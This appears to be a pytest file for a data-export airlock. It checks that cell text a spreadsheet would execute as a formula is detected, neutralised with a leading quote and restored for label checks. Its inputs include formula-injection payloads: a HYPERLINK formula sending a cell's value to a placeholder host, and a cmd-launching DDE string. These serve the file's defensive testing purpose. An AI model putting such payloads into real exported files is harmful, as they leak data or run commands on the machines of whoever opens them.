"""The formula rule alone: which text a spreadsheet would run, the quote that stops it, and the checks reading
the cells without it."""

from __future__ import annotations

import numpy as np
import pandas as pd
import pytest

from paitient.rules import disclosure, formulas
from paitient.services.airlock.canonical import canonical_output
from paitient.services.airlock.checks import CheckContext, check_table
from paitient.services.airlock.store import Request


@pytest.mark.parametrize(
    ("text", "runs"),
    [
        ("=1+1", True),
        ('=HYPERLINK("http://x/?"&A2,"click")', True),
        ("+cmd|' /C calc'!A0", True),
        ("-2+3", True),
        ("@SUM(A1:A9)", True),
        ("\t=1+1", True),
        ("\r=1+1", True),
        ("\n=1+1", True),
        ("   =1+1", True),  # importers that trim spaces would reach the formula
        ("-", True),
        ("- 2", True),
        ("-2", False),  # plain numbers: read as the number, nothing runs
        ("+3.5", False),
        ("-1e-3", False),
        ("-.5", False),
        (" -2", True),  # ... but only exactly a number
        ("-2,5", True),
        ("-٢", True),  # digits of another script: no spreadsheet reads them as a number
        ("+２", True),
        ("'=1+1", False),  # a quote first: text
        ("a=1", False),
        ("Stage I", False),
        ("", False),
        ("   ", False),
    ],
)
def test_which_text_runs_as_a_formula(text, runs):
    assert formulas.runs_as_formula(text) is runs
    assert formulas.quoted(text) == ("'" + text if runs else text)
    # What the checks read: the text, except for a quote that already stood before a formula.
    assert formulas.restored(formulas.quoted(text)) == (text[1:] if text == "'=1+1" else text)


def test_a_frame_is_quoted_in_its_text_only_and_restored():
    frame = pd.DataFrame(
        {
            "=cmd": ["=1+1", "I", None, "-2", "@x"],
            "n": [-2, -1, 0, 1, 2],
            "share": [-0.5, np.nan, 1.0, -2.0, 3.0],
            "mixed": [1, "-x", 2.5, None, "+y"],
            "ok": ["a", "b", "c", "d", "e"],
        }
    )
    quoted, count = formulas.quote_frame(frame)
    assert count == 5  # "=1+1", "@x", "-x", "+y" and the column name "=cmd"
    assert list(quoted.columns) == ["'=cmd", "n", "share", "mixed", "ok"]
    assert quoted["'=cmd"].tolist() == ["'=1+1", "I", None, "-2", "'@x"]
    assert quoted["mixed"].tolist() == [1, "'-x", 2.5, None, "'+y"]
    pd.testing.assert_frame_equal(quoted[["n", "share", "ok"]], frame[["n", "share", "ok"]])  # untouched
    assert frame["=cmd"].tolist()[0] == "=1+1"  # the input is not changed
    pd.testing.assert_frame_equal(formulas.restore_frame(quoted), frame)
    clean = frame[["n", "ok"]]
    assert formulas.quote_frame(clean) == (clean, 0) and formulas.restore_frame(clean) is clean


def test_a_catalogued_label_that_starts_like_a_formula_still_passes_the_label_check():
    df = pd.DataFrame({"her2": ["+ve", "-ve", "unknown"], "patients": [31, 45, 27]})
    out = canonical_output("table", "t.csv", df.to_csv(index=False).encode())
    assert out.quoted == 2 and out.data.splitlines()[1:3] == [b"'+ve,31", b"'-ve,45"]
    req = Request(
        id="r1",
        project="p",
        username="u",
        account="pt-u",
        uid=1,
        kind="table",
        filename="t.csv",
        sha256=out.sha256,
        size=len(out.data),
        justification="",
        meta={},
        state="checking",
        created=0.0,
        updated=0.0,
    )
    known = disclosure.Labels.of(["+ve", "-ve", "unknown", "her2", "patients"])
    by = {c["check"]: c for c in check_table(req, out.data, CheckContext(labels=lambda _project: known))}
    assert by["labels"]["status"] == "pass"
    unknown = disclosure.Labels.of(["unknown", "her2", "patients"])
    by = {c["check"]: c for c in check_table(req, out.data, CheckContext(labels=lambda _project: unknown))}
    assert by["labels"]["status"] == "fail"
    assert [c["value"] for c in by["labels"]["details"]["cells"]] == ["+ve", "-ve"]  # as written, no quote
